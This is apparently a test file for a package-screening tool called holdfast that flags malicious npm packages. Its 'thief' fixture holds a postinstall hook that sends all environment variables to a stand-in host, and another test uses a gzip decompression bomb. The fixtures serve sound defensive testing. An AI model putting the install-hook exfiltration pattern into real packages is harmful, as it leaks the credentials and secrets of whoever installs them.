// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { gzipSync } from 'node:zlib'

const folder = mkdtempSync(join(tmpdir(), 'screen-'))
after(() => rmSync(folder, { recursive: true }))
const cli = new URL('../../bin/holdfast.js', import.meta.url).pathname

function screen(...args: string[]) {
  const { status, stdout, stderr } = spawnSync(process.execPath, [cli, 'screen', ...args], {
    encoding: 'utf8',
  })
  return { status, stdout, stderr }
}

function write(name: string, files: Record<string, string>): string {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(folder, name, path, '..'), { recursive: true })
    writeFileSync(join(folder, name, path), text)
  }
  return join(folder, name)
}

const thief = {
  'package/package.json': '{"name":"a","version":"1.0.1","scripts":{"postinstall":"node set-up"}}',
  'package/set-up.js': 'require("https").request("https://x.invalid").end(JSON.stringify(process.env))',
}

test('a folder that holds package/ is screened, in words and as JSON, and links are not followed', () => {
  const path = write('thief', thief)
  symlinkSync(path, join(path, 'package', 'loop'))
  const told = screen(path, '--json')
  assert.equal(told.status, 1, told.stderr)
  const { verdict, findings } = JSON.parse(told.stdout)
  assert.equal(verdict, 'hold')
  assert.deepEqual(Object.keys(findings[0]), ['rule', 'file', 'line', 'excerpt', 'why'])
  assert.deepEqual(
    [findings[0].rule, findings[0].file, findings[0].line],
    ['environment-exfiltration', 'set-up.js', 1],
  )
  assert.match(screen(path).stdout, /sends all environment variables[\s\S]*hold, score/)
})

test('what passes exits with 0, and what was there before weighs less', () => {
  const clean = write('clean', {
    'package.json': '{"name":"a","version":"1.0.0"}',
    'index.js': 'exports.a = 1',
  })
  assert.equal(screen(clean, '--json').status, 0)
  const path = write('thief', thief)
  const score = (...args: string[]) => JSON.parse(screen(path, '--json', ...args).stdout).score
  assert.ok(score('--previous', clean) > score())
  assert.ok(score('--previous', path) < score())
})

test('bytes that are no package are held, and wrong words exit with 2', () => {
  const path = join(folder, 'bomb.tgz')
  writeFileSync(path, gzipSync(Buffer.alloc(8_000_000)))
  const told = screen(path, '--json')
  assert.deepEqual([told.status, JSON.parse(told.stdout).findings[0].rule], [1, 'unreadable-package'])
  assert.deepEqual(
    [screen().status, screen(join(folder, 'nothing')).status, screen(folder).status],
    [2, 2, 2],
  )
})
